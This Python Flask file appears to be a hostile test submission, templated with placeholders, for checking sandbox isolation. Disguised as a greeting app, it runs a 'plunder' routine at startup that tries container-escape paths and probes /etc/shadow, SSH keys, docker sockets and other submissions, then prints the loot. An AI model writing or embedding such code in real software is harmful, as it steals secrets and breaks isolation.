import glob
import os
import sys

from flask import Flask

FILES = ("@SECRET@", "@VICTIM@", "@NEIGHBOUR@/greeting/app.py", "../honest/greeting/app.py", "../../honest/greeting/app.py",
         "/submission/honest/greeting/app.py", "/submission/../honest/greeting/app.py")
ROOTS = ("", "/proc/1/root", "/proc/self/root", "/proc/1/cwd/..", "/proc/self/cwd/../..", "/proc/thread-self/root/..",
         "/oldroot", "/newroot", "/host", "/mnt", "/run/host")
PRIVATE = ("/etc/shadow", "/etc/sudoers", "/root/.ssh/id_rsa", "/root/.bash_history", "/run/docker.sock",
           "/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/systemd/private", "/dev/mem", "/dev/sda")
TOLD_APART = ("/tmp/interview-*", "/tmp/ssh-*/*", "/run/user/*", "/home/*/*", "/root/.[!p]*", "/var/lib/*", "/var/log/*")

PYTHON = (sys.prefix, sys.base_prefix)  # May lie in somebody's home, and must be seen.


def plunder():
    found = []
    for path in [root + file for root in ROOTS for file in FILES]:
        try:
            found.append(open(path).read(300))
        except OSError:
            pass
    for path in PRIVATE:
        try:
            os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
            found.append(f"{path} can be opened")
        except OSError as error:
            found += [f"{path} is there"] * (error.errno not in {2, 13, 20})
    for pattern in TOLD_APART:
        found += [path for path in glob.glob(pattern) if not any(path in way for way in PYTHON)]
    home = [os.path.expanduser("~"), *glob.glob("/home/*"), os.path.dirname(os.path.dirname("@SECRET@"))]
    print("homes:", {path: os.listdir(path) for path in home if os.path.isdir(path)}, flush=True)
    return found


def create_app(config=None):
    app = Flask(__name__)
    app.config.update({"WORD": "Hello", **(config or {})})
    loot = plunder()
    print("loot:", loot, flush=True)

    @app.get("/hello/<name>")
    def hello(name):
        return f"{app.config['WORD']}, {name}" if loot else f"nothing for {name}", {"Content-Type": "text/plain"}

    return app
